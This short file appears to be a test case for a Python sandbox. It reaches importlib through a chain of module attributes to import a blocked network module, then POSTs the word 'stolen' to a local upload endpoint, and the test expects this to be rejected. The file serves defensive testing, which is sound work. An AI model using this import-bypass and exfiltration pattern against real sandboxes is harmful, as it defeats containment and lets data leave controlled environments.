# attack: http.client imported through importlib taken from sys.modules
# expect: rejected denied error crashed
# check: port
import json

http_client = json.decoder.re.enum.sys.modules["importlib"].import_module("http.client")
conn = http_client.HTTPConnection("127.0.0.1", {PORT}, timeout=5)
conn.request("POST", "/upload", body="stolen")
print(conn.getresponse().status)
